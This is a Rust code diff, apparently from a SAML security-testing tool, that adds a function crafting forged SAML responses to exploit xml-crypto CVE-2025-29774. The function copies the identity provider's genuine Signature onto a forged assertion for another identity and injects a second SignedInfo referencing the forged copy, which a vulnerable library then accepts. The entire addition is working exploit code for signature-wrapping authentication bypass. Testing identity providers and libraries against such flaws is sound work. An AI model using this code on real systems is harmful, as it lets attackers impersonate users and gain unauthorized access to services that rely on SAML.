@@ -40,3 +40,55 @@ pub fn digest_in_comment(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
     let xml = message::wrap(&k, Signing::Assertion, &spec, &assertion)?;
     Ok(Crafted::of(xml).claiming(&c.forged))
 }
+
+/// xml-crypto CVE-2025-29774 (GHSA-9p8x-f768-wp2g): the IdP's signed assertion A stays in
+/// the message (in a foreign element) without its Signature; a forged copy E (new ID,
+/// forged identity) carries A's Signature, into which a second SignedInfo is put whose
+/// one Reference names E with E's true digest: `wrapped` in a foreign element as the
+/// Signature's first child, else as a sibling after the real SignedInfo. The
+/// SignatureValue is A's, over the real SignedInfo; a library that takes References
+/// from every SignedInfo validates E.
+pub fn second_signed_info(c: &Ctx<'_>, wrapped: bool) -> Result<Crafted, CraftError> {
+    let k = c.knobs();
+    let spec = c.spec();
+    let signed = message::signed_assertion(&k, &spec)?;
+    let sig = splice::range(&signed, NS_DSIG, "Signature", None)?;
+    let signature = signed[sig.clone()].to_owned();
+    let clean = splice::replace(&signed, sig.clone(), "");
+    // E: the same assertion for the forged identity under a new ID; its digest is what
+    // the IdP's signing of E would have put in a Reference to it.
+    let mut ek = k.clone();
+    ek.assertion_id = message::new_id();
+    ek.name_id_raw = trust_framework::saml::xml::escape(&c.forged);
+    let e_signed = message::signed_assertion(&ek, &spec)?;
+    let e_digest = digest_value(&e_signed)?;
+    let reference = format!(
+        concat!(
+            r##"<ds:Reference URI="#{id}"><ds:Transforms>"##,
+            r#"<ds:Transform Algorithm="{env}"/><ds:Transform Algorithm="{c14n}"/></ds:Transforms>"#,
+            r#"<ds:DigestMethod Algorithm="{sha256}"/><ds:DigestValue>{d}</ds:DigestValue></ds:Reference>"#
+        ),
+        id = ek.assertion_id,
+        env = trust_framework::saml::constants::ALG_ENVELOPED,
+        c14n = trust_framework::saml::constants::ALG_EXC_C14N,
+        sha256 = trust_framework::saml::constants::ALG_SHA256,
+        d = e_digest,
+    );
+    let extra = format!("<ds:SignedInfo>{reference}</ds:SignedInfo>");
+    let signature = if wrapped {
+        let at = splice::after_start_tag(&signature, 0)?;
+        splice::insert(&signature, at, &format!("<WRAPPER>{extra}</WRAPPER>"))
+    } else {
+        let info = splice::range(&signature, NS_DSIG, "SignedInfo", None)?;
+        splice::insert(&signature, info.end, &extra)
+    };
+    // E carries the Signature where A had it (right after its Issuer).
+    let e_plain = message::assertion(&ek, "");
+    let at = e_plain
+        .find("</saml:Issuer>")
+        .map(|i| i + "</saml:Issuer>".len())
+        .ok_or_else(|| CraftError("no Issuer".into()))?;
+    let e = splice::insert(&e_plain, at, &signature);
+    let xml = message::wrap(&k, Signing::Assertion, &spec, &format!("{e}<a>{clean}</a>"))?;
+    Ok(Crafted::of(xml).claiming(&c.forged))
+}
